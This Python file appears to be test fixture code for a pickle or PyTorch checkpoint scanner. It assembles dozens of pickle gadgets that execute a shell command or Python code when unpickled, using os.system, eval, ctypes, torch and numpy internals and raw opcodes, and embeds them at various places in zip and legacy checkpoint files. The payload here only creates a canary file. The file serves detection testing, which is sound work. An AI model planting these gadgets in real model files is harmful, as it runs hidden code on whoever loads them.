"""Pickled values that run something where they are unpickled, and the checkpoints they hide in."""

from __future__ import annotations

import pickle
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

from pickle import (  # isort: skip
    ADDITEMS, APPENDS, BINBYTES, BINPERSID, BUILD, DUP, EMPTY_DICT, EMPTY_LIST, EMPTY_TUPLE, EXT1,
    EXT2, EXT4, INST, MARK, MEMOIZE, NEWOBJ, NEWOBJ_EX, NONE, OBJ, POP, PROTO, REDUCE, SETITEM,
    SETITEMS, STACK_GLOBAL, STOP, TUPLE, TUPLE2,
)  # fmt: skip

from assembler import get, glob, number, put, storage, tensor, text

EXTENSIONS = {200: EXT1, 2000: EXT2, 200_000: EXT4}  # numbers that copyreg is given for os.system
WEIGHTS = [1.0, 2.0, 3.0, 4.0]

# A module of classes that leave a mark. The gadgets know it as `trapdoor`.
TRAP = Path(__file__).with_name("traps.py").read_text()


def call(function: str | bytes, *args: bytes) -> bytes:
    """The result of calling a function, given by its dotted name or as a value."""
    if isinstance(function, str):
        function = glob(*function.rsplit(".", 1))
    return function + MARK + b"".join(args) + TUPLE + REDUCE


def raw(value: bytes) -> bytes:
    return BINBYTES + struct.pack("<I", len(value)) + value


def gadgets(canary: str) -> dict[str, bytes]:
    """Each leaves one value on the stack, and has created the canary by then."""
    command, code = f"touch {canary}", f"open({canary!r}, 'w').close()"
    shell, source, path = text(command), text(code), text(canary)
    os_ = call("importlib.import_module", text("os"))
    system = call("builtins.getattr", os_, text("system"))
    compiled = call("builtins.compile", source, text("x"), text("exec"))
    browser = call("webbrowser.GenericBrowser", EMPTY_LIST + MARK + text("touch") + text("%s")
                   + APPENDS)  # fmt: skip
    nested = pickle.PROTO + b"\2" + call("os.system", shell) + STOP
    library = call("builtins.getattr", call("ctypes.CDLL", NONE), text("system"))
    trap, attribute = glob("trapdoor", "Trap"), glob("trapdoor", "Attribute")
    made = trap + EMPTY_TUPLE + NEWOBJ
    word = EMPTY_DICT + text("path") + path + SETITEM
    by_calls = {
        "os.system": call("os.system", shell),
        "posix.system": call("posix.system", shell),
        "os.popen": call("os.popen", shell),
        "subprocess": call("subprocess.getoutput", shell),
        "pty and friends": call("torch.utils.collect_env.run", shell),
        "eval": call("builtins.eval", source),
        "eval, in Python 2's words": call("__builtin__.eval", source),
        "exec": call("builtins.exec", source),
        "open": call("builtins.open", path, text("w")),
        "__import__": call(call("builtins.getattr", call("builtins.__import__", text("os")),
                                text("system")), shell),
        "importlib": call(system, shell),
        "attrgetter": call(call(call("operator.attrgetter", text("system")), os_), shell),
        "methodcaller": call(call("operator.methodcaller", text("system"), shell), os_),
        "partial": call(call("functools.partial", glob("os", "system"), shell)),
        "map": call("collections.deque", call("builtins.map", glob("os", "system"),
                                          EMPTY_LIST + MARK + shell + APPENDS)),
        "reduce": call("functools.reduce", glob("builtins", "getattr"),
                       MARK + os_ + text("name") + TUPLE) + POP + call(system, shell),
        "runpy": call("runpy._run_code", source, EMPTY_DICT),
        "FunctionType": call(call("types.FunctionType", compiled, EMPTY_DICT)),
        "timeit": call("timeit.repeat", source, text("pass"), glob("time", "perf_counter"),
                       number(1), number(1)),
        "pydoc": call("pydoc.pipepager", text("x"), shell),
        "webbrowser": call(call("operator.methodcaller", text("open"), path), browser),
        "ctypes": call(library, raw(command.encode())),
        "pickle in pickle": call("pickle.loads", raw(nested)),
        "torch.load": call("torch.storage._load_from_bytes", raw(nested)),
        "torch.jit": call("torch.jit.unsupported_tensor_ops.execWrapper", source, EMPTY_DICT,
                          EMPTY_DICT),
        "numpy": call("numpy.testing._private.utils.runstring", source, EMPTY_DICT),
        "a tensor's type": call("torch._tensor._rebuild_from_type_v2", glob("os", "system"),
                                glob("torch", "Tensor"), MARK + shell + TUPLE, NONE),
    }  # fmt: skip
    by_opcodes = {
        "STACK_GLOBAL": call(text("os") + text("system") + STACK_GLOBAL, shell),
        "a dotted name": PROTO + b"\4"
        + call(text("pathlib") + text("os.system") + STACK_GLOBAL, shell),
        "INST": MARK + shell + INST + b"os\nsystem\n",
        "OBJ": MARK + glob("os", "system") + shell + OBJ,
        "NEWOBJ": trap + MARK + path + TUPLE + NEWOBJ,
        "NEWOBJ_EX": trap + EMPTY_TUPLE + word + NEWOBJ_EX,
        "BUILD by __setstate__": made + path + BUILD,
        "BUILD by slots": attribute + EMPTY_TUPLE + NEWOBJ + NONE + word + TUPLE2 + BUILD,
        "SETITEM": made + path + NONE + SETITEM,
        "SETITEMS": made + MARK + path + NONE + SETITEMS,
        "APPENDS": made + MARK + path + APPENDS,
        "ADDITEMS": made + MARK + path + ADDITEMS,
        "the memo": glob("os", "system") + put(700) + POP + MARK + shell + TUPLE + put(7000) + POP
        + get(700) + get(7000) + REDUCE,
        "MEMOIZE": glob("os", "system") + MEMOIZE + MARK + shell + TUPLE + REDUCE,
        "a duplicate": glob("os", "system") + DUP + MARK + shell + TUPLE + REDUCE + TUPLE2,
    }  # fmt: skip
    by_registry = {
        f"extension {code}": call(opcode + struct.pack("<I", code)[: width], shell)
        for width, (code, opcode) in zip((1, 2, 4), EXTENSIONS.items(), strict=True)
    }  # fmt: skip
    return by_calls | by_opcodes | by_registry


def state(entry: bytes = b"", weights: bytes = b"") -> bytes:
    """A pickled state dict of one tensor, and what else stands in it."""
    return EMPTY_DICT + MARK + text("w") + (weights or tensor()) + entry + SETITEMS


def _with_hooks(gadget: bytes) -> bytes:
    parts = storage() + number(0) + MARK + number(4) + TUPLE + MARK + number(1) + TUPLE
    return call("torch._utils._rebuild_tensor_v2", parts, NONE, gadget)


def _with_shape(gadget: bytes) -> bytes:
    parts = storage() + number(0) + gadget + MARK + number(1) + TUPLE
    return call("torch._utils._rebuild_tensor_v2", parts, NONE, NONE)


def _storage_of(gadget: bytes) -> bytes:
    pid = MARK + text("storage") + gadget + text("0") + text("cpu") + number(4) + TUPLE
    return pid + BINPERSID


# Where a gadget can stand in a pickle, and what becomes of the file.
PLACES: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "beside the weights": (
        lambda g: EMPTY_DICT + MARK + text("model") + state() + text("x") + g + SETITEMS, "read"),
    "as a key beside them": (
        lambda g: EMPTY_DICT + MARK + g + NONE + text("model") + state() + SETITEMS, "read"),
    "before them": (lambda g: g + POP + state(), "read"),
    "in the state dict": (lambda g: state(text("args") + g), "read"),
    "as a key of the state dict": (lambda g: state(g + NONE), "read"),
    "as attributes of the state dict": (lambda g: state() + g + BUILD, "read"),
    "as a tensor's hooks": (lambda g: state(weights=_with_hooks(g)), "read"),
    "after the end": (lambda g: state() + STOP + g, "read"),
    "as a tensor's shape": (lambda g: state(weights=_with_shape(g)), "refused"),
    "as a tensor's storage": (lambda g: state(text("v") + _storage_of(g)), "refused"),
    "as a persistent id": (lambda g: state(text("v") + g + BINPERSID), "refused"),
    "as the state dict": (lambda g: g, "left out"),
}  # fmt: skip


def as_zip(path: Path, pickled: bytes) -> None:
    """The zip file that ``torch.save`` would have made."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", pickled)
        archive.writestr("archive/data/0", struct.pack("<4f", *WEIGHTS))


def as_legacy(path: Path, pickled: bytes, **others: bytes) -> None:
    """The file that torch before 1.6 would have made."""
    plain = {
        "protocol": pickle.dumps(1001, 2),
        "system": pickle.dumps({"little_endian": True, "protocol_version": 1001}, 2),
        "tree": pickled,
        "keys": pickle.dumps(["0"], 2),
    } | others
    content = struct.pack("<q4f", 4, *WEIGHTS)
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2)
    path.write_bytes(magic + b"".join(plain.values()) + content)
